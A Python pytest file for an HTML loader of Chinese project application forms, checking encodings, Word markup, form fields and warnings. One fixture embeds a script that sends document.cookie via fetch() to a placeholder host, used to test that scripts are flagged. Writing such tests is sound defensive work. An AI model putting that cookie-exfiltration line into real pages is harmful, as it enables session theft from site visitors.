"""Web pages as people return them: every value right, or a warning that names it, and nothing dropped in silence."""

from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest
from attrs import evolve, frozen
from effort import EFFORT
from hypothesis import given, settings
from hypothesis import strategies as st
from pages_returned import cells, form, need, page, summary, table, td, tr
from returned import HEADS, LISTED, NEED, SECTIONS
from test_word_reading import row_of, said

import xjdemand as xj
from xjdemand.demo import SAMPLES, SOUND, sample
from xjdemand.errors import LoadError, Place
from xjdemand.formats.data import load_file
from xjdemand.formats.loaded import Loaded
from xjdemand.forms.blank import Form, Kind, blanks, table_of
from xjdemand.forms.dossier import Dossier
from xjdemand.money import parse
from xjdemand.page.compose import as_printed
from xjdemand.testing import _dossiers, amounts, moments

Said = Mapping[str, str]
TITLE, OVERVIEW, CONTACT, PHONE = "项目名称", "项目概述", "联系人", "联系电话"
HINT = "简要说明项目实施的重要意义、技术创新现状、研究内容和预期科技创新成果产出、经济社会效益等（2000字以内）"
NESTED = "<p>一、意义</p><table><tr><td>指标</td><td>95%</td></tr></table>"


@frozen(kw_only=True)
class Case:
    """A page as it comes back: what its forms say where they differ from the corpus's own, and what must be warned of, no more."""

    file: bytes
    forms: Sequence[Said] = ({},)
    rows: Sequence[Sequence[str]] | None = None
    recommenders: tuple[str, ...] = ("喀什地区行政公署",)
    warned: Sequence[str] = ()


def one(changed: Said, said: Said | None = None, *warned: str) -> Case:
    """附件3 with some cells as given."""
    return Case(file=page(form(dict(changed))), forms=[said or {}], warned=warned)


def listed(body: str, *warned: str, rows: Sequence[Sequence[str]] = LISTED) -> Case:
    """附件4."""
    return Case(file=page(body), forms=(), rows=rows, warned=warned)


WORDS_CELLS = {
    TITLE: "<p class=MsoNormal>浅暗管排盐\n技术<span lang=EN-US><o:p></o:p></span>集成</p>",
    OVERVIEW: "<p class=MsoListParagraph><![if !supportLists]><span lang=EN-US><span style='mso-list:Ignore'>1."
    "<span style='font:7.0pt'>&nbsp;&nbsp; </span></span></span><![endif]>意义</p>"
    "<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p><p class=MsoNormal>内容</p>",
    CONTACT: "<del cite=mailto:a datetime=2023><span>马某</span></del><ins cite=mailto:a>卢晓棠</ins>"
    "<span class=MsoCommentReference><a class=msocomanchor href='#x'>[甲1]</a></span>",
}
OF_WORD = f"""<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta http-equiv=Content-Type content="text/html; charset=gb2312"><meta name=Generator content="Microsoft Word 15">
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style><!-- p.MsoNormal {{mso-style-parent:"";}} --></style></head><body lang=ZH-CN style='tab-interval:21.0pt'>
<div class=WordSection1 style='layout-grid:15.6pt'>
<p class=MsoNormal><span style='font-family:黑体'>附件<span lang=EN-US>3<o:p></o:p></span></span></p>
{table(need(WORDS_CELLS)).replace("<td>", "<td width=95 valign=top style='width:70.9pt;padding:0cm 5.4pt'>")}
<div style='mso-element:comment-list'><div style='mso-element:comment'>请核对</div></div>
<div style='mso-element:footnote-list'><div style='mso-element:footnote' id=ftn1>脚注一</div></div></div></body></html>"""

FIELDS = {
    TITLE: '<input type="text" value="浅暗管排盐技术集成" placeholder="请输入">',
    OVERVIEW: "<textarea rows=9>\n一、意义\n  二、内容 &amp; 指标\n</textarea>",
    "产业领域": "<select><option>请选择<option selected>盐碱地改造<option>其他</select>",
    "联系部门": "<select><option value=''>请选择</option><option>科学技术局</option></select>",
    CONTACT: "<input value=卢晓棠>",
}
PORTAL = f"""<!doctype html><title>填报</title><meta charset=utf-8><script>fetch('http://192.0.2.1/'+document.cookie)</script>
<table class=layout><tr><td>菜单<td><form action=http://192.0.2.1/><input type=hidden name=csrf value=abcdef>
{table(need(FIELDS))}<input type=submit value=提交></form></table>"""

CASES = {
    "as it should be": Case(file=page(form())),
    "tags left out": Case(file=page(form().replace("</td>", "").replace("</tr>", "").replace("</p>", ""))),
    "thead, tbody, th and a caption": Case(
        file=page(
            "<table><caption>附件3</caption><tbody>"
            + "".join(tr(row[0].replace("td", "th"), *row[1:]) for row in need().values())
            + "</tbody></table>"
        )
    ),
    "saved from Word, in GB2312": Case(
        file=OF_WORD.encode("gb18030"),
        forms=[{OVERVIEW: "意义\n\n内容"}],
        warned=["有自动编号", "有修订标记", "有批注", "有批注", "有脚注"],
    ),
    "in GB18030 and does not say so": Case(
        file=page(form(), head="").decode().encode("gb18030"), warned=["按 GB18030 读入"]
    ),
    "says Latin 1, is UTF-8": Case(
        file=page(form(), head="<meta charset=iso-8859-1>"), warned=["网页说编码是“iso-8859-1”，照它读不通"]
    ),
    "says UTF-7": Case(file=page(form(), head="<meta charset=utf-7>"), warned=["网页说编码是“utf-7”，照它读不通"]),
    "in UTF-16 with its mark": Case(file=page(form()).decode().encode("utf-16"), warned=["按 UTF-16 读入"]),
    "a portal's fields, within a table that holds them in place": Case(
        file=PORTAL.encode(),
        forms=[{OVERVIEW: "一、意义\n  二、内容 & 指标\n", "联系部门": ""}],
        warned=["网页带有脚本", "表外的文字没有读：菜单"],
    ),
    "a list to choose from where nothing is chosen": one(
        {"产业领域": "<select><option>盐碱地改造<option>其他</select>"}, None, "下拉框没有标明选了哪一项"
    ),
    "several chosen of a list": one(
        {"推荐单位": "<select multiple><option selected>甲厅<option>乙厅<option selected>丙厅</select>"},
        {"推荐单位": "甲厅、丙厅"},
    ),
    "boxes to tick": one(
        {"产业领域": "<input type=checkbox checked>节水<input type=checkbox>育种"},
        {"产业领域": "节水"},
        "单选框或复选框",
        "按打了勾的读",
    ),
    "a box for a file": one({CONTACT: "卢晓棠<input type=file>"}, None, "上传文件"),
    "blanks, hard blanks and lines of the file": one(
        {
            TITLE: "  浅暗管\n   排盐\t<b>技术</b>集成 ",
            CONTACT: "&nbsp;",
            OVERVIEW: "A\n  B&nbsp;&nbsp;C <i> D</i> 甲\nE\n乙",
        },
        {TITLE: "浅暗管排盐 技术集成", CONTACT: "", OVERVIEW: "A B\xa0\xa0C D 甲 E 乙"},
    ),
    "paragraphs, breaks and lists": one(
        {OVERVIEW: "<div>一<br></div><p>二<br>三</p><p></p><ul><li>四<li>五</ul><pre> 六\n 七</pre>"},
        {OVERVIEW: "一\n二\n三\n\n四\n五\n 六\n 七"},
    ),
    "a numbered list": one({OVERVIEW: "<ol><li>意义</li><li>内容</li></ol>"}, {OVERVIEW: "意义\n内容"}, "有自动编号"),
    "references": one(
        {TITLE: "A&lt;B&amp;C &#23383;&#x5b57; &copy &#99999999999999999999;"}, {TITLE: "A<B&C 字字 © \ufffd"}
    ),
    "a picture in place of text": one({OVERVIEW: "<img src=http://192.0.2.1/x.png alt=x>"}, {OVERVIEW: ""}, "图片或图形"),
    "a formula, a ruby and a frame": one(
        {OVERVIEW: "效率<math><mi>η</mi></math><ruby>卢<rt>lu</rt></ruby><iframe src=//192.0.2.1>x</iframe>"},
        {OVERVIEW: "效率卢"},
        "有公式",
        "有注音",
        "嵌着另一份文件",
    ),
    "hidden and struck text": one(
        {TITLE: "浅暗管<span style='DISPLAY: none'>排盐</span><s>技术</s><b style='text-decoration:line-through'>集成</b>"},
        None,
        "有隐藏的文字",
        "有划掉的文字",
    ),
    "an element that was not ended within one that was": one(
        {TITLE: "<del><b>旧名称</del>浅暗管排盐技术集成"}, None, "有修订标记"
    ),
    "comments within text": one({TITLE: "浅暗管<!-- 备注 > x -->排盐<!-->技术<!--->集成"}),
    "a table in the overview": one({OVERVIEW: NESTED}, {OVERVIEW: "一、意义\n指标\n95%"}, "套着表格"),
    "the hint left over the text": one(
        {OVERVIEW: f"{HINT}<br>一、意义"}, {OVERVIEW: f"{HINT}\n一、意义"}, "还留着表上的提示"
    ),
    "label and value in one cell": Case(
        file=page(table({**need(), CONTACT: [td("联系人：卢晓棠", colspan=3), td("联系电话：0998-5550101", colspan=2)]})),
        warned=["联系人和内容写在一格里", "联系电话和内容写在一格里"],
    ),
    "two forms in one file": Case(
        file=page(form() + form({TITLE: "第二个项目"}) + "<script>1</script>"),
        forms=[{}, {TITLE: "第二个项目"}],
        warned=["脚本"],
    ),
    "headings beside their rows": Case(
        file=page(
            "<table>"
            + "".join(
                tr(*([td("一、项目信息", rowspan=5)] if label == "推荐单位" else []), *row)
                for label, row in need().items()
                if label != SECTIONS[0]
            )
            + "</table>"
        )
    ),
    "a label over two rows": Case(
        file=page(
            table({**need(), OVERVIEW: [td(OVERVIEW, rowspan=2), td("一、意义", colspan=4)]}).replace(
                tr(td(SECTIONS[1], colspan=5)), tr(td("二、内容", colspan=4)) + tr(td(SECTIONS[1], colspan=5))
            )
        ),
        warned=["项目概述分在几行里"],
    ),
    "附件4 as it should be": listed(summary()),
    "附件4 with a cell merged over two rows": listed(
        summary(
            tr(*map(td, LISTED[0][:5]), td("同一单位", rowspan=2), *map(td, LISTED[0][6:])),
            tr(*map(td, LISTED[1][:5]), *map(td, LISTED[1][6:])),
        ),
        "承担单位和上一行合在一格里",
        rows=[(*row[:5], "同一单位", *row[6:]) for row in LISTED],
    ),
    "附件4 with a cell over the rest of its rows": listed(
        summary(
            tr(*map(td, LISTED[0][:5]), td("同一单位", rowspan=0), *map(td, LISTED[0][6:])),
            tr(*map(td, LISTED[1][:5]), *map(td, LISTED[1][6:])),
        ),
        "承担单位和上一行合在一格里",
        rows=[(*row[:5], "同一单位", *row[6:]) for row in LISTED],
    ),
    "附件4 with a sum and a column more": listed(
        summary(*map(cells, LISTED), cells(("合计", "", "", "7350", "2180", "", "", ""))).replace(
            cells(HEADS), tr(*map(td, HEADS), td("备注"))
        ),
        "多出一栏“备注”",
        "这一格没有读：合计",
        "这一行和表头的格子对不齐",
        "这一行和表头的格子对不齐",
    ),
}
"""What was done to the page -> the page and what is to be made of it."""


def loaded(file: bytes, folder: Path, name: str = "交回.html") -> Loaded:
    path = folder / name
    path.write_bytes(file)
    return load_file(path)


@pytest.mark.parametrize("case", CASES.values(), ids=CASES)
def test_every_value_is_right_and_every_doubt_is_said(case: Case, tmp_path: Path) -> None:
    """No value in a wrong field without a word, and no warning without need."""
    made = loaded(case.file, tmp_path)
    assert [said(each, NEED) for each in made.dossier.forms] == [{**NEED, **changed} for changed in case.forms]
    if case.rows is not None:
        assert made.dossier.summary is not None
        assert [row_of(row) for row in made.dossier.summary.rows] == [tuple(row) for row in case.rows]
        assert made.dossier.summary.recommenders == case.recommenders
    told = [note.what.said("zh") for note in made.notes]
    assert len(told) == len(case.warned), told
    assert all(any(warned in each for each in told) for warned in case.warned), told


def test_a_finding_points_to_table_row_and_cell(tmp_path: Path) -> None:
    made = loaded(page(form({"项目计划总投入": "约三千万"})), tmp_path, "x.htm")
    assert made.locate("/forms/0/total").place == Place(1, 8, 2)
    assert made.locate("/forms/0/leader_phone").said("zh").endswith("x.htm:表1第13行第2格")


@pytest.mark.parametrize("name", SAMPLES)
def test_our_own_pages_come_back_as_they_went_without_a_word(name: str, tmp_path: Path) -> None:
    """Faulty ones too: hints left in, labels in values, whatever was typed."""
    dossier = xj.loads(sample(name), "yaml").with_summary()
    made = loaded(xj.render(dossier, "html"), tmp_path)
    assert (made.dossier.forms, made.dossier.summary, made.notes) == (dossier.forms, dossier.summary, ())


@pytest.mark.parametrize("name", SOUND)
def test_our_pages_without_their_pointers_come_back_by_their_labels(name: str, tmp_path: Path) -> None:
    """As after a program that knows nothing of them."""
    dossier = xj.loads(sample(name), "yaml").with_summary()
    made = loaded(xj.render(dossier, "html").replace(b"data-path", b"data-lost"), tmp_path)
    assert (made.dossier.forms, made.dossier.summary, made.notes) == (dossier.forms, dossier.summary, ())


def test_a_page_of_ours_whose_labels_were_exchanged_is_read_by_its_labels(tmp_path: Path) -> None:
    """What is seen counts: pointers that say otherwise are told of, and not believed."""
    raw = xj.render(xj.JointProject(title="甲项目", field="乙领域"), "html").decode()
    swapped = raw.replace("产业领域", "\0").replace("项目名称", "产业领域").replace("\0", "项目名称")
    made = loaded(swapped.encode(), tmp_path)
    (read,) = made.dossier.forms
    assert (getattr(read, "title", ""), getattr(read, "field", "")) == ("乙领域", "甲项目")
    assert sum("带着别的栏目的标记" in note.what.said("zh") for note in made.notes) == 2


def test_a_value_typed_over_a_hint_is_read(tmp_path: Path) -> None:
    """In an editor the element still says that it is a hint."""
    raw = xj.render(xj.JointProject(), "html").decode()
    made = loaded(raw.replace(HINT, "一、意义").encode(), tmp_path)
    assert getattr(made.dossier.forms[0], "overview", "") == "一、意义"


def test_rows_put_in_by_hand_are_read(tmp_path: Path) -> None:
    """A copied row bears the pointers of another."""
    raw = xj.render(xj.JointSummary(rows=(xj.SummaryRow(title="甲"), xj.SummaryRow(title="乙"))), "html").decode()
    row = next(part for part in raw.split("<tr") if "/summary/rows/0/title" in part).partition("</tr>")[0]
    made = loaded(raw.replace(f"<tr{row}</tr>", f"<tr{row}</tr>" * 2).encode(), tmp_path)
    assert made.dossier.summary is not None
    assert [getattr(each, "title", "") for each in made.dossier.summary.rows] == ["甲", "甲", "乙"]


NO_CHARACTERS = [
    chr(code)
    for code in (0x2028, 0x2029, *range(0xFDD0, 0xFDF0), *(p << 16 | 0xFFFE | n for p in range(17) for n in (0, 1)))
]
SIGNS = st.characters(exclude_categories=["Cs", "Cc"], exclude_characters=NO_CHARACTERS)
ODD = st.sampled_from([*"\t\n\n  \u3000\xa0<&>\"';,，:：、", "联系人", "&nbsp;", "</td>", "<!--", "附件3", HINT])
WRITTEN = st.lists(SIGNS | ODD, max_size=20).map("".join)


def writable_dossiers() -> st.SearchStrategy[Dossier]:
    """Dossiers that a page can hold, but for what the form itself does not show: see `kept`."""
    return _dossiers(WRITTEN, amounts(), moments())


def kept(form: Form) -> Form:
    """A form as its page shows it: names without empty ones and parted, what stands over a table on one line, no empty rows last."""
    above = getattr(getattr(form, "grid", None), "above", ())
    changed: dict[str, object] = {}
    for item in blanks(type(form)):
        value = getattr(form, item.name)
        if item.kind is Kind.NAMES:
            text = "、".join(name for name in value if name.strip())
            text = text.replace("\n", " ") if item.name in above else text
            value = tuple(text.split("、")) if text else ()
        elif item.kind is Kind.AMOUNT and value is not None:
            value = parse(str(value))
        elif item.name in above:
            value = value.replace("\n", " ")
        changed[item.name] = value
    part = table_of(type(form))
    if part is not None:
        rows = [kept(row) for row in getattr(form, part.name)]
        while rows and rows[-1] == part.of():
            rows.pop()
        changed[part.name] = tuple(rows)
    return evolve(form, **changed)


@settings(max_examples=80 * EFFORT)
@given(dossier=writable_dossiers())
def test_every_dossier_that_can_be_written_is_read_back_equal(
    dossier: Dossier, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Whatever stands in it, labels and tags and blanks at its ends too, and without a word."""
    if dossier.summary is None and not dossier.forms:
        return
    whole = as_printed(dossier)
    made = loaded(xj.render(dossier, "html"), tmp_path_factory.getbasetemp())
    assert made.notes == ()
    assert made.dossier.forms == tuple(map(kept, whole.forms))
    assert made.dossier.summary == (None if whole.summary is None else kept(whole.summary))


@pytest.mark.parametrize(("body", "told"), [("<p>函</p>", "没有认出"), (summary() + summary(), "附件4有两张")])
def test_a_page_without_a_form_or_with_a_second_summary_is_refused(body: str, told: str, tmp_path: Path) -> None:
    with pytest.raises(LoadError, match=told):
        loaded(page(body), tmp_path)
